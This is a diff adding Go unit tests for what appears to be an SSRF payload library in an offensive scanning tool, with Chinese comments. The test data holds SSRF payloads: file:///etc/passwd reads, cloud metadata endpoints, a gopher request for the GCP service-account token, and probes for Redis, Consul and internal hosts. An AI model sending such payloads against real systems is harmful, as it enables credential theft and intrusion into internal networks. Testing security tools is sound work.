@@ -0,0 +1,190 @@
+package payloads
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestLoadDictFileOverride(t *testing.T) {
+	// 测试在 payloads/ 目录下运行，没有 dict/ 目录时使用内置字典
+	embedded, err := loadDictFile("file_read.txt")
+	if err != nil || len(embedded) == 0 {
+		t.Fatalf("加载内置字典失败: %v", err)
+	}
+
+	dir := t.TempDir()
+	if err := os.Mkdir(filepath.Join(dir, "dict"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "dict", "file_read.txt"), []byte("# 本地字典\nfile:///etc/passwd\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	wd, _ := os.Getwd()
+	if err := os.Chdir(dir); err != nil {
+		t.Fatal(err)
+	}
+	defer os.Chdir(wd)
+
+	local, err := loadDictFile("file_read.txt")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(local) != 1 || local[0].Value != "file:///etc/passwd" || local[0].Type != "文件读取" {
+		t.Errorf("本地字典未生效: %+v", local)
+	}
+
+	// 本地目录中不存在的字典仍使用内置版本
+	if bypass, err := loadDictFile("bypass_techniques.txt"); err != nil || len(bypass) == 0 {
+		t.Errorf("缺少本地文件时应使用内置字典: %v", err)
+	}
+}
+
+func TestParseDictLine(t *testing.T) {
+	tests := []struct {
+		line string
+		want Payload
+	}{
+		{"http://10.0.0.5:8080/", Payload{Value: "http://10.0.0.5:8080/", Type: "自定义字典"}},
+		{"http://jenkins.corp:8080/ | Jenkins, X-Jenkins", Payload{Value: "http://jenkins.corp:8080/", Type: "自定义字典", Keywords: []string{"Jenkins", "X-Jenkins"}}},
+		{"http://10.0.0.5:9200/ | cluster_name | 内网探测", Payload{Value: "http://10.0.0.5:9200/", Type: "内网探测", Keywords: []string{"cluster_name"}}},
+		{"file:///etc/passwd |  | 文件读取", Payload{Value: "file:///etc/passwd", Type: "文件读取", Keywords: []string{"root:", "bin:", "daemon:", "nobody:"}}},
+		{"http://a.com/?q=x|y", Payload{Value: "http://a.com/?q=x|y", Type: "自定义字典"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.line, func(t *testing.T) {
+			if got := ParseDictLine(tt.line, "自定义字典"); !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("ParseDictLine = %+v, want %+v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestGetCloudMetadataPayloads(t *testing.T) {
+	all := GetCloudMetadataPayloads(nil)
+	seen := make(map[string]bool)
+	for _, p := range all {
+		if seen[p.Value] {
+			t.Errorf("重复的元数据地址: %s", p.Value)
+		}
+		seen[p.Value] = true
+	}
+	if !seen["http://169.254.169.254/hetzner/v1/metadata"] || !seen["http://metadata.tencentyun.com/latest/meta-data/"] {
+		t.Errorf("未指定云厂商时应包含全部厂商")
+	}
+
+	// 只测试指定厂商，OpenStack 和华为云相同地址的关键字合并
+	selected := GetCloudMetadataPayloads([]string{CloudOpenStack, CloudHuawei})
+	if len(selected) != 3 {
+		t.Fatalf("payload数量 = %d, want 3", len(selected))
+	}
+	want := []string{"availability_zone", "launch_index", "project_id", "region_id"}
+	if got := selected[0].Keywords; len(got) != len(want) {
+		t.Errorf("合并后的关键字 = %v, want %v", got, want)
+	}
+
+	// 合并关键字不修改全局定义
+	if n := len(cloudMetadataPayloads[CloudOpenStack][0].Keywords); n != 3 {
+		t.Errorf("全局payload关键字被修改: %d", n)
+	}
+}
+
+func TestLookup(t *testing.T) {
+	tests := []struct {
+		value       string
+		payloadType string
+		keyword     string // 期望包含的关键字，为空表示找不到
+	}{
+		{"file:///etc/passwd", "文件读取", "root:"},
+		{"http://169.254.169.254/latest/meta-data/", "云元数据", "ami-id"},
+		{"http://10.0.0.1:6379", "端口扫描", "redis_version"},
+		{"http://127.0.0.1:8500/v1/kv/?recurse", TypeConsul, "LockIndex"},
+		{"http://10.0.0.1/admin", "自定义字典", ""},
+	}
+	for _, tt := range tests {
+		p, ok := Lookup(tt.value, tt.payloadType)
+		if ok != (tt.keyword != "") {
+			t.Errorf("Lookup(%q) ok = %v", tt.value, ok)
+			continue
+		}
+		found := tt.keyword == ""
+		for _, kw := range p.Keywords {
+			found = found || kw == tt.keyword
+		}
+		if !found {
+			t.Errorf("Lookup(%q) 关键字 = %v，期望包含 %q", tt.value, p.Keywords, tt.keyword)
+		}
+	}
+}
+
+func TestGetCloudRequests(t *testing.T) {
+	requests := GetCloudRequests([]string{CloudGCP})
+	if len(requests) == 0 {
+		t.Fatal("没有GCP的元数据请求")
+	}
+	for _, r := range requests {
+		if r.Provider != CloudGCP {
+			t.Errorf("返回了其他云厂商的请求: %+v", r)
+		}
+	}
+	data := gopherData(t, requests[0].Payload().Value, "gopher://metadata.google.internal:80/_")
+	if want := "GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.1\r\nHost: metadata.google.internal\r\nMetadata-Flavor: Google\r\n"; !strings.HasPrefix(string(data), want) {
+		t.Errorf("请求 = %q", data)
+	}
+	if len(GetCloudRequests(nil)) != len(cloudRequests) {
+		t.Error("未指定云厂商时应返回全部请求")
+	}
+}
+
+func TestDictFiles(t *testing.T) {
+	files, err := DictFiles()
+	if err != nil {
+		t.Fatalf("DictFiles() error = %v", err)
+	}
+	if len(files) == 0 {
+		t.Fatal("DictFiles() 没有返回内置字典")
+	}
+	for _, file := range files {
+		if file.Path != "" {
+			t.Errorf("%s 应使用内置字典，实际为 %s", file.Name, file.Path)
+		}
+		if len(file.SHA256) != 64 || file.Payloads == 0 {
+			t.Errorf("%s 的摘要或payload数量不正确: %+v", file.Name, file)
+		}
+	}
+}
+
+func TestCountDictLines(t *testing.T) {
+	data := []byte("# 注释\nhttp://127.0.0.1/\n\n  \nfile:///etc/passwd | root:x: | 文件读取\n")
+	if got := countDictLines(data); got != 2 {
+		t.Errorf("countDictLines() = %d, want 2", got)
+	}
+}
+
+func TestGetAdminPayloads(t *testing.T) {
+	got := GetAdminPayloads("http://[::1]:8080")
+	if len(got) == 0 || got[0].Value != "http://[::1]:8080/actuator" {
+		t.Fatalf("GetAdminPayloads = %v", got)
+	}
+	for _, p := range got {
+		if p.Type != TypeAdmin || len(p.Keywords) == 0 {
+			t.Errorf("%s 类型或关键字不正确: %+v", p.Value, p)
+		}
+	}
+}
+
+func TestGetInternalHostPayloads(t *testing.T) {
+	got := GetInternalHostPayloads([]string{"jenkins.internal", "gitlab:8080", "https://vault.internal:8200/"})
+	want := []string{"http://jenkins.internal/", "http://gitlab:8080/", "https://vault.internal:8200/"}
+	if len(got) != len(want) {
+		t.Fatalf("GetInternalHostPayloads = %v", got)
+	}
+	for i, p := range got {
+		if p.Value != want[i] || p.Type != TypeInternalHost {
+			t.Errorf("GetInternalHostPayloads[%d] = %+v, want %s", i, p, want[i])
+		}
+	}
+}